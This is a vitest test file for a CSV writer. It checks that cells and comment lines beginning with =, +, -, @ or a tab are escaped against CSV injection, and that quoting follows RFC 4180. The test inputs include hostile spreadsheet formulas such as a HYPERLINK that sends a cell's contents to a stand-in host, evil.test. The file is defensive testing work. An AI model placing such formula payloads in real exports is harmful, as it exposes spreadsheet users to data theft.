import { describe, it, expect } from 'vitest';
import { writeCsv, csvFixed, RESEARCH_USE_COMMENT } from '..';

// Escaping rule: OWASP "CSV Injection" (docs/references.md §11): cells starting with = + - @ tab or CR get a
// leading apostrophe. Quoting: RFC 4180 §2 (fields with commas, quotes or line breaks are quoted, quotes doubled).
describe('writeCsv', () => {
  it('escapes hostile marker names in the header and hostile text in cells, keeps negative numbers', () => {
    const csv = writeCsv({
      header: ['sample_code', '+1-1_intensity', '@SUM(A1:A9)', 'height_nm'],
      rows: [['=HYPERLINK("http://evil.test/?d="&A1,"open")', '-2+3', '\tcmd', -12.5]],
    });
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe("sample_code,'+1-1_intensity,'@SUM(A1:A9),height_nm");
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.test/?d=""&A1,""open"")",'-2+3,'\tcmd,-12.5`);
    expect(lines[2]).toBe('');
  });

  it('quotes per RFC 4180 §2', () => {
    const csv = writeCsv({ header: ['a', 'b', 'c'], rows: [['x,y', 'say "hi"', 'two\nlines'], [1.5, null, true]] });
    expect(csv).toBe('a,b,c\r\n"x,y","say ""hi""","two\nlines"\r\n1.5,,1\r\n');
  });

  it('writes fixed decimals, prints -0 as 0 and empties NaN and infinities', () => {
    const csv = writeCsv({ rows: [[csvFixed(-0.0001, 3), csvFixed(-1.23456, 2), csvFixed(Number.NaN, 1), Number.POSITIVE_INFINITY, { value: 2, digits: 1 }]], lineEnding: '\n' });
    expect(csv).toBe('0.000,-1.23,,,2.0\n');
  });

  it('writes comment lines first, escaping every comma-separated piece a spreadsheet would start a cell with', () => {
    const csv = writeCsv({
      comments: [RESEARCH_USE_COMMENT, 'Sample +1-1 (group =A1), released, =HYPERLINK("http://evil.test"), "=1+1"\nsecond line'],
      header: ['x'],
    });
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe('# Research use only. Not for diagnosis or treatment decisions.');
    expect(lines[1]).toBe(`# Sample +1-1 (group =A1), released, '=HYPERLINK("http://evil.test"), '"=1+1" second line`);
    expect(lines[2]).toBe('x');
    // every cell a spreadsheet would split the comment into starts with a harmless character
    for (const c of lines[1].split(',')) expect(c.trimStart()).not.toMatch(/^[=+\-@\t\r"]/);
  });

  it('accepts a comment already carrying its # and returns only rows when there is no header', () => {
    expect(writeCsv({ comments: ['# Study X'], lineEnding: '\n' })).toBe('# Study X\n');
    expect(writeCsv({ rows: [['a', 1]], lineEnding: '\n' })).toBe('a,1\n');
    expect(writeCsv({})).toBe('');
  });

  it('refuses a malformed object cell', () => {
    expect(() => writeCsv({ rows: [[{ value: 'x', digits: 1 } as never]] })).toThrow(TypeError);
  });
});
